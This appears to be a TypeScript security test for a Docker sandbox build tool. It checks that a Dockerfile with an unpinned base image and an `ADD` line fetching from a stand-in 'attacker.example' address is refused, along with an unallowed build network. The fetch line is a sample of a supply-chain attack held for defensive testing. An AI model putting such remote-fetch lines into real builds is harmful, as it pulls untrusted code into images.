import * as assert from 'uvu/assert';
import type { Attack } from '../attack.js';
import { withTarget } from '../target.js';

export const attack: Attack = {
  title: 'has the engine fetch what a Dockerfile names',
  story:
    '`RUN` has no network while an image is built, but `ADD` with an address is done by the engine itself, which has one; a base image by its tag may be another one tomorrow. Both are refused at their lines before anything is built, and so is a network that the policy does not give.',
  by: 'anybody',
  attempt: () =>
    withTarget('docker', async (target) => {
      const project = (network: string): string =>
        `version: 1\nproject: target\nsandbox: { driver: docker, build: { network: ${network} }, image-policy: pinned }\n`;
      await target.commit({
        'pushpals.yml': project('none'),
        Dockerfile: 'FROM pushpals-test:1\nADD \\\n  https://attacker.example/x /x\n',
      });
      await target.write('ops/inbox/go.yml', 'goal: Go\nformula: fix\n');
      const tick = await target.pushpals(['tick']);
      assert.is(tick.exitCode, 2, tick.stderr);
      assert.match(tick.stderr, /Dockerfile:1[^]*names no digest/);
      assert.match(tick.stderr, /Dockerfile:2[^]*would fetch from the network/);
      await target.commit({ 'pushpals.yml': project('full') });
      assert.match((await target.pushpals(['tick'])).stderr, /more than the policy lets any step reach/);
    }),
};
